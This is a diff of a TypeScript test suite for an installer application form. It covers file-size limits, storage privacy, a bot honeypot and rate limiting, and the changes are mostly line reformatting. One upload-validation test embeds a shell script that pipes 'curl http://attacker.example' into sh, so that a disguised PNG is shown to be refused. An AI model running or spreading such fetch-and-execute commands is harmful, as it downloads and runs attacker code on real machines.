@@ -33,7 +33,10 @@ const VALID: Record<string, string | string[]> = {
   message: 'Level 2 installs and panel upgrades.',
 };
 
-function formData(fields: Record<string, string | string[] | undefined> = VALID, files: Record<string, File> = {}) {
+function formData(
+  fields: Record<string, string | string[] | undefined> = VALID,
+  files: Record<string, File> = {},
+) {
   const data = new FormData();
   for (const [name, value] of Object.entries(fields)) {
     if (value === undefined) continue;
@@ -87,7 +90,10 @@ afterAll(() => rmSync(storageDir, { recursive: true, force: true }));
 describe('installer application action', () => {
   it('stores a valid application as pending, with its files under random names, and logs the notification', async () => {
     const result = await submitInstallerApplication(
-      formData(VALID, { logo: file(PNG, 'my logo.png', 'image/png'), certificationProof: file(PDF, 'licence.pdf') }),
+      formData(VALID, {
+        logo: file(PNG, 'my logo.png', 'image/png'),
+        certificationProof: file(PDF, 'licence.pdf'),
+      }),
     );
     expect(result).toEqual({ ok: true, message: 'Your submission has been received!' });
 
@@ -108,13 +114,20 @@ describe('installer application action', () => {
     expect(lead?.certification_proof_url).toMatch(/^installer-certifications\/\d{13}-[0-9a-f-]{36}\.pdf$/);
 
     const files = storedFiles().sort();
-    expect(files).toEqual([`media/${lead?.logo_url?.replace('/storage/media/', '')}`, `private/${lead?.certification_proof_url}`].sort());
+    expect(files).toEqual(
+      [
+        `media/${lead?.logo_url?.replace('/storage/media/', '')}`,
+        `private/${lead?.certification_proof_url}`,
+      ].sort(),
+    );
     expect(readFileSync(path.join(storageDir, 'private', lead!.certification_proof_url!))).toEqual(PDF);
     expect(info.mock.calls.join('\n')).toContain('New installer application: Volt Electric');
 
     // The logo is served publicly; the certification proof never is.
     const logoKey = lead!.logo_url!.replace('/storage/media/', '').split('/');
-    const logo = await serveStorage(new Request('http://localhost/'), { params: Promise.resolve({ bucket: 'media', key: logoKey }) });
+    const logo = await serveStorage(new Request('http://localhost/'), {
+      params: Promise.resolve({ bucket: 'media', key: logoKey }),
+    });
     expect(logo.status).toBe(200);
     expect(logo.headers.get('content-type')).toBe('image/png');
     const proof = await serveStorage(new Request('http://localhost/'), {
@@ -125,11 +138,20 @@ describe('installer application action', () => {
 
   it('stores an application without files, defaulting the tier to free', async () => {
     const result = await submitInstallerApplication(
-      formData({ ...VALID, listingTier: undefined, certifications: undefined, message: '' }, { logo: new File([], '') }),
+      formData(
+        { ...VALID, listingTier: undefined, certifications: undefined, message: '' },
+        { logo: new File([], '') },
+      ),
     );
     expect(result.ok).toBe(true);
     const [lead] = await leads();
-    expect(lead).toMatchObject({ listing_tier: 'free', certifications: [], message: null, logo_url: null, certification_proof_url: null });
+    expect(lead).toMatchObject({
+      listing_tier: 'free',
+      certifications: [],
+      message: null,
+      logo_url: null,
+      certification_proof_url: null,
+    });
     expect(storedFiles()).toEqual([]);
   });
 
@@ -158,11 +180,18 @@ describe('installer application action', () => {
 
   it('refuses a logo of 2 MB + 1 byte and a proof of 5 MB + 1 byte', async () => {
     const logo = file(Buffer.concat([PNG, Buffer.alloc(2 * MB + 1 - PNG.length)]), 'logo.png', 'image/png');
-    const proof = file(Buffer.concat([PDF, Buffer.alloc(5 * MB + 1 - PDF.length)]), 'proof.pdf', 'application/pdf');
+    const proof = file(
+      Buffer.concat([PDF, Buffer.alloc(5 * MB + 1 - PDF.length)]),
+      'proof.pdf',
+      'application/pdf',
+    );
     const result = await submitInstallerApplication(formData(VALID, { logo, certificationProof: proof }));
     expect(result).toMatchObject({
       ok: false,
-      fieldErrors: { logo: 'Logo must be 2 MB or smaller', certificationProof: 'Certification proof must be 5 MB or smaller' },
+      fieldErrors: {
+        logo: 'Logo must be 2 MB or smaller',
+        certificationProof: 'Certification proof must be 5 MB or smaller',
+      },
     });
     expect(await leads()).toHaveLength(0);
     expect(storedFiles()).toEqual([]);
@@ -175,9 +204,16 @@ describe('installer application action', () => {
   });
 
   it('refuses a .png that is really a script', async () => {
-    const script = file(Buffer.from('#!/bin/sh\ncurl http://attacker.example | sh\n'), 'logo.png', 'image/png');
+    const script = file(
+      Buffer.from('#!/bin/sh\ncurl http://attacker.example | sh\n'),
+      'logo.png',
+      'image/png',
+    );
     const result = await submitInstallerApplication(formData(VALID, { logo: script }));
-    expect(result).toMatchObject({ ok: false, fieldErrors: { logo: 'Logo must be a PNG, JPG or GIF image' } });
+    expect(result).toMatchObject({
+      ok: false,
+      fieldErrors: { logo: 'Logo must be a PNG, JPG or GIF image' },
+    });
     expect(await leads()).toHaveLength(0);
     expect(storedFiles()).toEqual([]);
   });
@@ -187,7 +223,10 @@ describe('installer application action', () => {
     await sql()`alter table ev_installer_leads add constraint test_refuse_insert check (business_name <> 'Broken Insert Co') not valid`;
     try {
       const result = await submitInstallerApplication(
-        formData({ ...VALID, businessName: 'Broken Insert Co' }, { logo: file(PNG, 'logo.png'), certificationProof: file(PDF, 'p.pdf') }),
+        formData(
+          { ...VALID, businessName: 'Broken Insert Co' },
+          { logo: file(PNG, 'logo.png'), certificationProof: file(PDF, 'p.pdf') },
+        ),
       );
       expect(result).toEqual({ ok: false, message: 'Failed to submit form. Please try again.' });
       expect(await leads()).toHaveLength(0);
@@ -198,7 +237,9 @@ describe('installer application action', () => {
   });
 
   it('pretends success to a bot that fills the hidden field, and stores nothing', async () => {
-    const result = await submitInstallerApplication(formData({ ...VALID, fax: '555-0100' }, { logo: file(PNG, 'logo.png') }));
+    const result = await submitInstallerApplication(
+      formData({ ...VALID, fax: '555-0100' }, { logo: file(PNG, 'logo.png') }),
+    );
     expect(result.ok).toBe(true);
     expect(await leads()).toHaveLength(0);
     expect(storedFiles()).toEqual([]);
@@ -206,9 +247,13 @@ describe('installer application action', () => {
 
   it('limits applications per client', async () => {
     for (let index = 0; index < APPLICATION_RATE_LIMIT.limit; index += 1) {
-      expect((await submitInstallerApplication(formData({ ...VALID, businessName: `Business ${index}` }))).ok).toBe(true);
+      expect(
+        (await submitInstallerApplication(formData({ ...VALID, businessName: `Business ${index}` }))).ok,
+      ).toBe(true);
     }
-    const refused = await submitInstallerApplication(formData({ ...VALID, businessName: 'One Too Many' }, { logo: file(PNG, 'l.png') }));
+    const refused = await submitInstallerApplication(
+      formData({ ...VALID, businessName: 'One Too Many' }, { logo: file(PNG, 'l.png') }),
+    );
     expect(refused).toEqual({ ok: false, message: RATE_LIMITED_MESSAGE });
     expect(await leads()).toHaveLength(APPLICATION_RATE_LIMIT.limit);
     expect(storedFiles()).toEqual([]);
